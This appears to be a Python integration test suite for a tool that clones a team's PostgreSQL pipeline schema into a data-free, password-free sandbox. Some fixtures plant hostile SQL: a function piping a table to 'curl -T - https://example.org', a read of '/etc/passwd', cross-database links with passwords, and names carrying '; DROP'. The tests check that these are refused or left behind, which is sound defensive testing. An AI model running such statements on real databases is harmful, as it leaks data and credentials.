# Copyright: (c) 2026, Scout Recovery contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A team drills its own schema: the clone is the source without its data and passwords, and the source is only read."""

from __future__ import annotations

import itertools
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import psycopg
import pytest
from psycopg import sql
from psycopg.conninfo import conninfo_to_dict, make_conninfo

from ansible_collections.scout.drills.plugins.plugin_utils.drill.clone import source
from ansible_collections.scout.drills.plugins.plugin_utils.drill.execution.live_load import Load
from ansible_collections.scout.drills.plugins.plugin_utils.drill.sandbox.embedded import DrillServer, SlowStandby
from ansible_collections.scout.drills.plugins.plugin_utils.drill.sandbox.factory import Sandbox, open_sandbox
from ansible_collections.scout.drills.plugins.plugin_utils.reference import builder, oracle
from ansible_collections.scout.drills.plugins.plugin_utils.reference.events import generator
from ansible_collections.scout.drills.plugins.plugin_utils.reference.faults import library
from ansible_collections.scout.drills.plugins.plugin_utils.reference.release.pg_dump import dump
from ansible_collections.scout.drills.plugins.plugin_utils.reference.server import container
from ansible_collections.scout.recovery.plugins.module_utils.recovery.core.errors import (
    NotConverged,
    RecoveryError,
    WrongDatabase,
)
from tests.integration.staging import PASSWORD, Staging, cmdlines, prepare, until

PENDING = """
SELECT count(*) FROM scout.bronze_events AS b WHERE event_type = 'transaction.v1'
  AND NOT EXISTS (SELECT FROM scout.etl_processed AS p WHERE p.event_id = b.event_id)
"""
JOBS = "SELECT jobname, schedule, command, username::text, active, database::text = current_database() FROM cron.job ORDER BY jobname"
ROLES = """
SELECT rolname::text, rolsuper, rolinherit, rolcanlogin, rolbypassrls, coalesce(rolconfig, '{}'), ARRAY(
    SELECT g.rolname::text || m.inherit_option || m.set_option FROM pg_auth_members AS m JOIN pg_roles AS g ON g.oid = m.roleid
    WHERE m.member = r.oid ORDER BY 1)
FROM pg_roles AS r WHERE rolname = ANY (%s) ORDER BY 1
"""
EVENTS = {"events": 150, "seed": 7}
#: Said of each source here, whose tests are run as its superuser.
ORDINARY = "role {}: it is superuser and above policies in the source, which no role of a clone is"
NO_SUPERUSER = (ORDINARY.format("postgres"),)
_numbers = itertools.count(1)


def rows(dsn: str, query: str, *values: object) -> list[tuple[object, ...]]:
    with psycopg.connect(dsn, autocommit=True) as connection:
        return connection.execute(query.encode(), values or None).fetchall()


def value(dsn: str, query: str) -> object:
    return rows(dsn, query)[0][0]


def do(dsn: str, script: str) -> None:
    with psycopg.connect(dsn, autocommit=True) as connection:
        connection.execute(script.encode())


def lacking(dsn: str, fault: str) -> list[str]:
    with psycopg.connect(dsn) as connection:
        return library.lacking(connection, fault)


def load(sandbox: Sandbox) -> None:
    """What the scheduler would do."""
    with psycopg.connect(sandbox.dsn, autocommit=True) as connection:
        connection.execute(sql.SQL("SET ROLE {}").format(sql.Identifier(sandbox.owner)))
        connection.execute("SELECT FROM scout.load_silver_from_bronze(2000)")


def schema(dsn: str, *schemas: str) -> str:
    """What pg_dump says of the schemas, whatever scratch names its roles have."""
    text = dump(dsn, "--schema-only", *(f'--schema="{name}"' for name in (schemas or ("scout",))))
    text = re.sub(r'(?:"scout_drill_[0-9a-f]{12}_((?:[^"]|"")*)"|scout_drill_[0-9a-f]{12}_(\w+))', _first_name, text)
    return re.sub(r"^--.*\n", "", text, flags=re.MULTILINE)


def _first_name(found: re.Match[str]) -> str:
    name = found[1] or found[2]
    return name if re.fullmatch("[a-z_]+", name) else f'"{name}"'


@pytest.fixture(scope="module")
def server() -> Iterator[DrillServer]:
    """Where the sources are, and a staging server too."""
    with DrillServer({"log_statement": "mod", "log_line_prefix": "[%a %d] "}) as found:
        yield found


@pytest.fixture(scope="module")
def staging(server: DrillServer) -> Staging:
    return prepare(server, "staging")


@pytest.fixture(scope="module")
def templates(server: DrillServer) -> dict[str, builder.Template]:
    return {variant: builder.template(server, variant, events=60) for variant in builder.VARIANTS}


@pytest.fixture
def faithful(templates: dict[str, builder.Template]) -> str:
    return templates["faithful"].clone(f"source_{next(_numbers)}")


def cloned(dsn: str) -> Sandbox:
    return open_sandbox("embedded", schema_from=dsn, pipeline=EVENTS, name="test")  # type: ignore[return-value]


@pytest.mark.parametrize("variant", builder.VARIANTS)
def test_a_clone_of_the_reference_is_the_reference(templates: dict[str, builder.Template], variant: str) -> None:
    dsn = templates[variant].clone(f"source_{next(_numbers)}")
    do(dsn, "UPDATE cron.job SET active = false WHERE jobname = 'product-linking'")
    [(owner,)] = rows(dsn, "SELECT nspowner::regrole::text FROM pg_namespace WHERE nspname = 'scout'")
    roles = [*({owner} - {"postgres"}), "edge_ingest", "dashboard_reader"]
    with cloned(dsn) as sandbox:
        assert (sandbox.lacks, sandbox.owner) == (NO_SUPERUSER if owner == "postgres" else (), owner)
        assert schema(sandbox.dsn) == schema(dsn)
        assert rows(sandbox.dsn, JOBS) == rows(dsn, JOBS)
        assert rows(sandbox.dsn, ROLES, roles) == rows(dsn, ROLES, roles)
        # Its own events, through its own functions, and none of the source's.
        assert value(sandbox.dsn, "SELECT count(*) FROM scout.bronze_events") == 150
        assert value(sandbox.dsn, PENDING) == 0
        assert value(sandbox.dsn, "SELECT count(*) FROM scout.silver_transactions WHERE transaction_id !~ '^7-'") == 0
        assert value(sandbox.dsn, "SELECT count(*) FROM scout.gold_daily_metrics") != 0
        with psycopg.connect(sandbox.operator_dsn("least_privileged")) as connection:
            assert connection.execute("SELECT count(*) FROM scout.silver_transactions").fetchone() != (0,)
        # Nobody can write what a materialized view holds but a superuser, whom a clone does not have; and where the pipeline
        # is the superuser's own, no role of it can lose a right.
        no_loader = {} if owner == "loader" else {name: ["role loader"] for name in ("unnamed", "unnamed_fixed")}
        assert {fault: lacks for fault in library.FAULTS if (lacks := lacking(sandbox.dsn, fault))} == {
            "gold_stale": ["superuser rights"],
            **no_loader,
        }


def test_the_teams_own_functions_are_exercised(faithful: str) -> None:
    do(
        faithful,
        """CREATE FUNCTION scout.changed() RETURNS trigger LANGUAGE plpgsql AS
           $$ BEGIN NEW.payment_method := 'changed'; RETURN NEW; END $$;
           CREATE TRIGGER changed BEFORE INSERT ON scout.silver_transactions FOR EACH ROW EXECUTE FUNCTION scout.changed();
           ALTER FUNCTION scout.load_silver_from_bronze(int) RENAME TO loader_of_old;
           CREATE FUNCTION scout.load_silver_from_bronze(p_limit int DEFAULT 2000)
           RETURNS TABLE (events_processed int, transactions_created int, line_items_created int, processing_duration_ms int)
           LANGUAGE sql SECURITY DEFINER AS 'SELECT * FROM scout.loader_of_old(least(p_limit, 40))';
           ALTER FUNCTION scout.load_silver_from_bronze(int) OWNER TO loader""",
    )
    with cloned(faithful) as sandbox:
        # Only forty at a time, so it is asked again.
        assert (sandbox.lacks, value(sandbox.dsn, PENDING)) == (NO_SUPERUSER, 0)
        library.FAULTS["backlog"](sandbox.dsn, count=50)
        load(sandbox)
        assert value(sandbox.dsn, PENDING) == 10
        assert rows(sandbox.dsn, "SELECT DISTINCT payment_method FROM scout.silver_transactions") == [("changed",)]


def test_what_a_fault_needs_and_the_clone_lacks_is_said_by_name(faithful: str) -> None:
    do(faithful, "DROP FUNCTION scout.canonical_event_hash(jsonb) CASCADE; DROP INDEX scout.gold_region_choropleth_pk")
    with cloned(faithful) as sandbox:
        assert sandbox.lacks == ()
        assert lacking(sandbox.dsn, "poison_event") == []
        assert "index scout.gold_region_choropleth_pk" in lacking(sandbox.dsn, "gold_broken")
        assert lacking(sandbox.dsn, "gold_unpopulated") == []


STRANGE = """
CREATE ROLE "Nacht ""1"" schicht" NOLOGIN NOINHERIT;
CREATE ROLE "ünïcode; DROP" LOGIN BYPASSRLS PASSWORD 'never to be seen';
CREATE ROLE unrelated;
GRANT "Nacht ""1"" schicht" TO loader WITH INHERIT FALSE, SET TRUE;
GRANT pg_monitor TO "Nacht ""1"" schicht";
ALTER ROLE "ünïcode; DROP" SET search_path = "Hilfs.schema", scout, public;
ALTER ROLE "ünïcode; DROP" SET "app.token" = 'never to be seen';
"""
OBJECTS = """
CREATE EXTENSION pgcrypto;
CREATE SCHEMA "Hilfs.schema" AUTHORIZATION "ünïcode; DROP";
CREATE FUNCTION "Hilfs.schema"."zähle ""x"" y"(text) RETURNS bigint LANGUAGE sql STABLE AS 'SELECT 1::bigint';
CREATE TABLE scout."Täglich ""x"" Summe" ("Tag" date, "größe; DROP" int, CONSTRAINT "c""1" CHECK ("größe; DROP" > 0));
ALTER TABLE scout."Täglich ""x"" Summe" OWNER TO "ünïcode; DROP", ENABLE ROW LEVEL SECURITY;
CREATE POLICY "nur an Leser" ON scout."Täglich ""x"" Summe" FOR SELECT TO "Nacht ""1"" schicht", dashboard_reader
    USING ("Tag"::text <> 'to loader; x');
GRANT SELECT ("Tag") ON scout."Täglich ""x"" Summe" TO "Nacht ""1"" schicht" WITH GRANT OPTION;
GRANT USAGE ON SCHEMA scout TO "Nacht ""1"" schicht", "ünïcode; DROP";
SET ROLE "Nacht ""1"" schicht";
GRANT SELECT ("Tag") ON scout."Täglich ""x"" Summe" TO edge_ingest;
RESET ROLE;
ALTER DEFAULT PRIVILEGES FOR ROLE loader IN SCHEMA scout GRANT SELECT ON TABLES TO "Nacht ""1"" schicht";
CREATE FUNCTION scout."rufe an"() RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = scout, "Hilfs.schema" AS
    $body$ BEGIN RETURN 'GRANT x TO y;' || digest('a', 'md5')::text || "Hilfs.schema"."zähle ""x"" y"('; DROP'); END $body$;
ALTER FUNCTION scout."rufe an"() OWNER TO "ünïcode; DROP";
REVOKE ALL ON FUNCTION scout."rufe an"() FROM PUBLIC;
GRANT EXECUTE ON FUNCTION scout."rufe an"() TO "Nacht ""1"" schicht";
CREATE FUNCTION scout.atomic() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT CASE WHEN true THEN 1 END; SELECT 2; END;
COMMENT ON TABLE scout."Täglich ""x"" Summe" IS 'it''s; OWNER TO loader;';
INSERT INTO scout."Täglich ""x"" Summe" VALUES ('2026-01-01', 4711);
INSERT INTO cron.job (jobname, schedule, command, username, nodeport, active)
VALUES ('Täglich ''x''', '5 4 * * *', 'SELECT "Hilfs.schema"."zähle ""x"" y"($q$100%$q$)', 'ünïcode; DROP', 5432, false);
"""
NAMES = ['Nacht "1" schicht', "ünïcode; DROP", "loader"]


@pytest.fixture
def strange(server: DrillServer, faithful: str) -> Iterator[str]:
    """A source with names that nobody should have."""
    do(faithful, STRANGE)
    database = str(conninfo_to_dict(faithful)["dbname"])
    do(
        faithful,
        f"ALTER DATABASE {database} SET search_path = scout, public; ALTER DATABASE {database} SET app.key = 'never to be seen'",
    )
    do(faithful, OBJECTS)
    yield faithful
    server.drop_database(database)
    do(server.dsn("postgres"), 'DROP ROLE "Nacht ""1"" schicht", "ünïcode; DROP", unrelated')


def test_quoted_names_unicode_grants_and_policies(strange: str) -> None:
    with cloned(strange) as sandbox:
        assert sandbox.lacks == (
            *NO_SUPERUSER,
            "role ünïcode; DROP: it is above policies in the source, which no role of a clone is",
            'membership of Nacht "1" schicht in pg_monitor: permission denied to grant role "pg_monitor"',
        )
        assert schema(sandbox.dsn, "scout", "Hilfs.schema") == schema(strange, "scout", "Hilfs.schema")
        assert rows(sandbox.dsn, JOBS) == rows(strange, JOBS)
        clone, original = rows(sandbox.dsn, ROLES, NAMES), rows(strange, ROLES, NAMES)
        # The one setting that is not taken along, and what none of a clone's roles may be.
        assert original[-1][4:6] == (True, ['search_path="Hilfs.schema", scout, public', "app.token=never to be seen"])
        assert original[0][6] == ["pg_monitorfalsetrue"]
        assert clone == [
            (*original[0][:6], []),
            *original[1:-1],
            (*original[-1][:4], False, ['search_path="Hilfs.schema", scout, public'], original[-1][6]),
        ]
        assert value(sandbox.dsn, "SHOW search_path") == "scout, public"
        assert rows(sandbox.dsn, "SELECT FROM pg_roles WHERE rolname = 'unrelated'") == []
        assert value(sandbox.dsn, 'SELECT count(*) FROM scout."Täglich ""x"" Summe"') == 0
        assert str(value(sandbox.dsn, 'SELECT scout."rufe an"()')).endswith("1")
        superuser = make_conninfo(sandbox.dsn, user="scout_drill")
        assert rows(superuser, "SELECT rolname::text FROM pg_authid WHERE rolpassword IS NOT NULL ORDER BY 1") == [
            ("scout_drill",),
            ("scout_drill_owner",),
        ]
        everything = dump(superuser) + str(rows(superuser, "SELECT setconfig FROM pg_db_role_setting"))
        assert "never to be seen" not in everything


def test_on_a_staging_server_its_roles_are_scratch_roles(strange: str, staging: Staging) -> None:
    before, names = staging.fingerprint(str(conninfo_to_dict(strange)["dbname"])), staging.names()
    with open_sandbox(
        "staging", sandbox_dsn=staging.dsn(), schema_from=strange, pipeline=EVENTS, name="test", hosts=staging.hosts
    ) as sandbox:
        database = str(conninfo_to_dict(sandbox.dsn)["dbname"])
        # Only a superuser makes a role that is above policies, and hands on pg_monitor.
        assert sorted(sandbox.lacks) == [
            'membership of Nacht "1" schicht in pg_monitor: permission denied to grant role "pg_monitor"',
            *NO_SUPERUSER,
            "role ünïcode; DROP: it is above policies in the source, which no role of a clone is",
        ]
        assert schema(sandbox.dsn, "scout", "Hilfs.schema") == schema(strange, "scout", "Hilfs.schema")
        owners = "SELECT DISTINCT pg_get_userbyid(relowner)::text FROM pg_class WHERE relnamespace = 'scout'::regnamespace ORDER BY 1"
        assert rows(sandbox.dsn, owners) == [(f"{database}_loader",), (f"{database}_ünïcode; DROP",)]
        jobs = {(name, role) for name, _, _, role, *_ in rows(sandbox.dsn, JOBS)}
        assert ("Täglich 'x'", f"{database}_ünïcode; DROP") in jobs
        assert ("bronze-to-silver-etl", f"{database}_loader") in jobs
        assert value(sandbox.dsn, PENDING) == 0
        assert value(sandbox.dsn, f"SELECT rolcanlogin FROM pg_roles WHERE rolname = '{database}_loader'") is False
        library.FAULTS["backlog"](sandbox.dsn, count=5)
        load(sandbox)
        assert value(sandbox.operator_dsn("least_privileged"), PENDING) == 0
    assert (staging.fingerprint(str(conninfo_to_dict(strange)["dbname"])), staging.names()) == (before, names)


def test_the_source_is_only_read(server: DrillServer, faithful: str, staging: Staging) -> None:
    database = str(conninfo_to_dict(faithful)["dbname"])
    log = Path(str(conninfo_to_dict(faithful)["host"])) / "server.log"
    before, seen = staging.fingerprint(database), log.stat().st_size
    writes = "SELECT sum(n_tup_ins + n_tup_upd + n_tup_del) FROM pg_stat_user_tables"
    written = value(faithful, writes)
    with cloned(faithful):
        pass
    assert staging.fingerprint(database) == before
    assert value(faithful, writes) == written
    with log.open("rb") as new:
        new.seek(seen)
        said = new.read().decode()
    # Every statement that is no mere reading would be there.
    assert not [line for line in said.splitlines() if database in line and "statement:" in line]


READER = """
CREATE ROLE reader LOGIN PASSWORD '{password}';
GRANT USAGE ON SCHEMA scout, cron TO reader;
GRANT SELECT ON ALL TABLES IN SCHEMA scout TO reader;
GRANT loader TO reader WITH INHERIT FALSE, SET TRUE;
"""


def test_a_role_that_may_only_read_is_enough_and_its_password_is_nowhere(server: DrillServer, faithful: str) -> None:
    do(faithful, READER.format(password=PASSWORD))
    database = str(conninfo_to_dict(faithful)["dbname"])
    dsn = server.tcp_dsn(database, user="reader", password=PASSWORD)
    spied: list[str] = []
    over = threading.Event()

    def spy() -> None:
        while not over.wait(0.005):
            spied.append(cmdlines())

    spying = threading.Thread(target=spy)
    spying.start()
    try:
        with cloned(dsn) as sandbox:
            assert sandbox.lacks == ()
            assert schema(sandbox.dsn) == schema(faithful)
            assert len(rows(sandbox.dsn, JOBS)) == 7
    finally:
        over.set()
        spying.join()
    seen = "\n".join(spied)
    assert "--schema-only" in seen
    assert PASSWORD not in seen
    assert quote(PASSWORD, safe="") not in seen
    do(faithful, "REVOKE SELECT ON scout.alerts FROM reader")
    source_again = make_conninfo(dsn, application_name="again")
    with pytest.raises(
        NotConverged, match=r"pg_dump: .*permission denied for table alerts.*SELECT on their tables"
    ) as refused:
        cloned(source_again).__enter__()
    assert PASSWORD not in str(refused.value)
    with pytest.raises(RecoveryError, match="could not open a session") as refused:
        cloned(dsn.replace("4711", "0815")).__enter__()
    assert "0815" not in str(refused.value)
    do(faithful, "DROP OWNED BY reader; DROP ROLE reader")


def test_a_standby_is_source_enough(server: DrillServer, faithful: str) -> None:
    with SlowStandby(server, 60) as standby:
        dsn = standby.dsn(str(conninfo_to_dict(faithful)["dbname"]))
        assert value(dsn, "SELECT pg_is_in_recovery()") is True
        with cloned(dsn) as sandbox:
            assert sandbox.lacks == ()
            assert schema(sandbox.dsn) == schema(faithful)


def test_a_standby_is_no_place_for_a_scratch_database(server: DrillServer) -> None:
    with (
        SlowStandby(server, 60) as standby,
        pytest.raises(WrongDatabase, match=r"refused to work on a standby.*point sandbox_dsn at the primary"),
        open_sandbox("staging", sandbox_dsn=standby.dsn("postgres"), pipeline=EVENTS, name="test"),
    ):
        pass


def test_a_database_without_a_pipeline_is_no_source(server: DrillServer) -> None:
    dsn = server.create_database("nothing_there")
    with pytest.raises(WrongDatabase, match=r"holds no Scout pipeline.*there is no scout.bronze_events, "):
        cloned(dsn).__enter__()


def test_what_reaches_out_of_the_sandbox_stays_behind(faithful: str) -> None:
    do(
        faithful,
        """CREATE SCHEMA tools; CREATE EXTENSION dblink SCHEMA tools; CREATE EXTENSION postgres_fdw;
           CREATE FUNCTION scout.tell() RETURNS text LANGUAGE sql AS
           $$ SELECT tools.dblink_connect('dbname=elsewhere password=secret') $$;
           CREATE SERVER beyond FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'production');
           CREATE USER MAPPING FOR loader SERVER beyond OPTIONS (password 'secret');
           CREATE FUNCTION scout.export() RETURNS void LANGUAGE plpgsql AS
           $$ BEGIN COPY scout.alerts TO PROGRAM 'curl -T - https://example.org'; END $$;
           COMMENT ON FUNCTION scout.export() IS 'copies the alerts to a program';
           CREATE FUNCTION scout.export_to(path text) RETURNS void LANGUAGE plpgsql AS
           $$ BEGIN EXECUTE format('COPY scout.alerts TO %L', path); END $$;
           CREATE FUNCTION scout.import_from(path text) RETURNS void LANGUAGE plpgsql AS
           $$ BEGIN EXECUTE 'COPY scout.alerts FROM ' || quote_literal(path); END $$;
           CREATE FUNCTION scout.copy_of(name text) RETURNS bigint LANGUAGE plpgsql AS
           $$ DECLARE n bigint; BEGIN -- the copy
           EXECUTE format('SELECT count(*) FROM %s', name) INTO n; RETURN n; END $$;
           SELECT cron.schedule('export', '* * * * *', 'COPY scout.alerts TO ''/tmp/alerts'' ');
           CREATE FOREIGN TABLE scout.far (n int) SERVER beyond;
           GRANT SELECT ON scout.far TO dashboard_reader""",
    )
    with cloned(faithful) as sandbox:
        assert sandbox.lacks == (
            *NO_SUPERUSER,
            "extension dblink: it reaches out of the sandbox",
            'table scout.far: server "beyond" does not exist',
        )
        assert value(sandbox.dsn, PENDING) == 0
        # What the code says is no matter: it is refused where it is run.
        for call in ("export()", "export_to('/tmp/alerts')", "import_from('/etc/passwd')"):
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                value(sandbox.dsn, f"SELECT scout.{call}")
        with pytest.raises(psycopg.errors.UndefinedFunction):
            value(sandbox.dsn, "SELECT scout.tell()")


def test_tables_that_ask_for_more_are_filled_all_the_same(faithful: str) -> None:
    do(
        faithful,
        """CREATE TYPE scout.lane AS ENUM ('fast', 'slow');
           TRUNCATE scout.bronze_events, scout.etl_processed, scout.silver_transactions CASCADE;
           ALTER TABLE scout.bronze_events ADD tenant text NOT NULL, ADD lane scout.lane NOT NULL, ADD shard int NOT NULL,
               ADD tags text[] NOT NULL, ADD batch uuid NOT NULL, ADD seen date NOT NULL,
               ADD kind text GENERATED ALWAYS AS (event_type || '!') STORED, ADD n bigint GENERATED ALWAYS AS IDENTITY,
               DROP CONSTRAINT bronze_events_event_hash_key, DROP CONSTRAINT unique_event_hash,
               ALTER event_hash TYPE text USING encode(event_hash, 'hex');
           ALTER TABLE scout.dim_store ADD opened timestamptz NOT NULL DEFAULT now(), ADD floor_sqm int NOT NULL DEFAULT 1;
           ALTER TABLE scout.dim_store ALTER floor_sqm DROP DEFAULT, DROP city CASCADE;
           ALTER TABLE scout.silver_transactions ADD FOREIGN KEY (store_id) REFERENCES scout.dim_store (store_id)""",
    )
    with cloned(faithful) as sandbox:
        assert sandbox.lacks == (
            *NO_SUPERUSER,
            *(
                f"a value for scout.bronze_events.{name} in generated events, so the clone gives it a default"
                for name in ("tenant", "lane", "shard", "tags", "batch", "seen")
            ),
        )
        # Events that come in later on do not fail either.
        do(sandbox.dsn, "INSERT INTO scout.bronze_events (event_type, event_data) VALUES ('heartbeat.v1', '{}')")
        assert value(sandbox.dsn, PENDING) == 0
        assert value(sandbox.dsn, "SELECT count(*) FROM scout.silver_transactions") != 0
        assert rows(sandbox.dsn, "SELECT DISTINCT tenant, lane::text, shard FROM scout.bronze_events") == [
            ("drill", "fast", 0)
        ]


def test_what_others_keep_is_no_hindrance_and_is_said(faithful: str) -> None:
    """A clone has no data, so nothing can refer to what is elsewhere; short columns and unique ones are filled too."""
    do(
        faithful,
        """CREATE SCHEMA crm; CREATE TABLE crm.customers (customer_id text PRIMARY KEY);
           CREATE TABLE scout.shops (code varchar(3) PRIMARY KEY);
           TRUNCATE scout.bronze_events, scout.etl_processed, scout.silver_transactions CASCADE;
           ALTER TABLE scout.bronze_events ADD currency char(3) NOT NULL, ADD shop varchar(3) NOT NULL REFERENCES scout.shops,
               ADD channel text NOT NULL CONSTRAINT known CHECK (channel IN ('pos', 'web')), ADD ref text NOT NULL UNIQUE,
               ADD number int NOT NULL UNIQUE;
           ALTER TABLE scout.silver_transactions
               ADD CONSTRAINT ours FOREIGN KEY (customer_id) REFERENCES crm.customers""",
    )
    with cloned(faithful) as sandbox:
        assert sandbox.lacks == (
            *NO_SUPERUSER,
            *(
                f"a value for scout.bronze_events.{name} in generated events, so the clone gives it a default"
                for name in ("currency", "shop", "channel", "ref", "number")
            ),
            *(
                f"{what}, so the clone does without"
                for what in (
                    "check known of scout.bronze_events that a value made up for generated events does not meet",
                    "foreign key bronze_events_shop_fkey of scout.bronze_events to scout.shops, which has no such rows in a clone",
                    "foreign key ours of scout.silver_transactions to crm.customers, which has no such rows in a clone",
                )
            ),
        )
        assert value(sandbox.dsn, "SELECT count(*) FROM scout.bronze_events") == 150
        assert value(sandbox.dsn, PENDING) == 0
        assert value(sandbox.dsn, "SELECT count(*) FROM scout.silver_transactions") != 0
        do(sandbox.dsn, "INSERT INTO scout.bronze_events (event_type, event_data) VALUES ('a', '{}'), ('b', '{}')")


def test_events_are_as_they_were_written_whatever_the_database_is_set_to(faithful: str) -> None:
    """The zone of the team, and how it has dates written, are no alteration."""
    name = conninfo_to_dict(faithful)["dbname"]
    do(
        faithful,
        f"ALTER DATABASE {name} SET timezone = 'Asia/Manila'; ALTER DATABASE {name} SET datestyle = 'SQL, DMY'",
    )
    with cloned(faithful) as sandbox:
        assert value(sandbox.dsn, "SHOW timezone") == "Asia/Manila"
        known = oracle.bronze(sandbox.dsn)
        with Load(sandbox.dsn, events_per_second=50, scheduler=False) as load:
            assert until(lambda: len(load.written) > 5)
        assert not load.trouble
        assert oracle.where(sandbox.dsn, {**known, **load.written}) == oracle.ZERO


def test_a_column_of_which_no_value_is_known_is_named(faithful: str) -> None:
    do(
        faithful,
        "TRUNCATE scout.bronze_events, scout.etl_processed; ALTER TABLE scout.bronze_events ADD place point NOT NULL",
    )
    with pytest.raises(
        NotConverged, match=r"column scout.bronze_events.place must have a value, and of type point none"
    ):
        cloned(faithful).__enter__()


def test_an_etl_that_fails_on_generated_events_is_told_from_a_drill_that_failed(faithful: str) -> None:
    do(
        faithful,
        """TRUNCATE scout.bronze_events, scout.etl_processed, scout.silver_transactions CASCADE;
           ALTER TABLE scout.silver_transactions ADD CONSTRAINT only_cash CHECK (payment_method = 'cash')""",
    )
    with pytest.raises(
        NotConverged, match=r"the clone's scout.load_silver_from_bronze.* fails on generated events.*only_cash"
    ):
        cloned(faithful).__enter__()


def test_a_superuser_of_the_source_owns_what_he_owns_and_is_none(faithful: str) -> None:
    """As the postgres of managed services."""
    do(
        faithful,
        "CREATE FUNCTION scout.whoami() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'SELECT current_user::text'",
    )
    with cloned(faithful) as sandbox:
        assert value(sandbox.dsn, "SELECT scout.whoami()") == "postgres"
        assert value(sandbox.dsn, "SELECT rolsuper FROM pg_roles WHERE rolname = 'postgres'") is False


def test_all_scenarios_of_a_drill_are_about_one_reading(faithful: str) -> None:
    with cloned(faithful) as sandbox:
        before = schema(sandbox.dsn)
    do(faithful, "CREATE TABLE scout.later ()")
    with cloned(faithful) as sandbox:
        assert schema(sandbox.dsn) == before
    assert any(each.about == "table scout.later" for each in source.read(faithful).statements)


@pytest.mark.docker
def test_in_a_container_the_clones_jobs_are_run_by_the_real_scheduler(faithful: str) -> None:
    do(faithful, "UPDATE cron.job SET schedule = '1 seconds' WHERE jobname = 'bronze-to-silver-etl'")
    with open_sandbox("docker", schema_from=faithful, clone_jobs=True, pipeline=EVENTS, name="test") as sandbox:
        assert (sandbox.lacks, sandbox.has_pg_cron) == ((), True)
        assert value(sandbox.dsn, "SELECT count(*) FROM cron.job") == 7
        with psycopg.connect(sandbox.dsn, autocommit=True) as connection:
            generator.insert(connection, generator.transaction(99, 1))
        assert until(lambda: value(sandbox.dsn, PENDING) == 0)
        latest = value(sandbox.dsn, "SELECT max(runid) FROM cron.job_run_details")
        succeeded = f"""SELECT count(*) FROM cron.job_run_details
                        WHERE username = 'loader' AND status = 'succeeded' AND runid > {latest}"""
        assert until(lambda: value(sandbox.dsn, succeeded) != 0)


@pytest.mark.docker
def test_in_a_container_the_clones_jobs_are_inactive_unless_asked_for(faithful: str) -> None:
    with open_sandbox("docker", schema_from=faithful, pipeline=EVENTS, name="test") as sandbox:
        assert sandbox.lacks == (
            "its jobs at work: they are inactive, unless you ask for them with -e clone_jobs=true",
        )
        assert value(sandbox.dsn, "SELECT count(*) FROM cron.job") == 7
        assert value(sandbox.dsn, "SELECT count(*) FROM cron.job WHERE active") == 0


@pytest.mark.docker
def test_an_extension_that_the_sandbox_does_not_have_is_named() -> None:
    with container.running() as box:
        builder.build(box.dsn, events=0)
        do(
            box.dsn,
            """CREATE EXTENSION pgtap;
               CREATE FUNCTION scout.checks() RETURNS SETOF text LANGUAGE sql AS $$ SELECT plan(1) $$;
               CREATE DOMAIN scout.note AS text; CREATE TABLE scout.notes (n scout.note);
               CREATE FUNCTION scout.diagnosis(text) RETURNS text LANGUAGE sql RETURN diag($1)""",
        )
        with cloned(box.dsn) as sandbox:
            assert sandbox.lacks[:-1] == (*NO_SUPERUSER, "extension pgtap: this server does not have it")
            assert sandbox.lacks[-1].startswith("function scout.diagnosis: ")
            assert value(sandbox.dsn, "SELECT count(*) FROM scout.notes") == 0
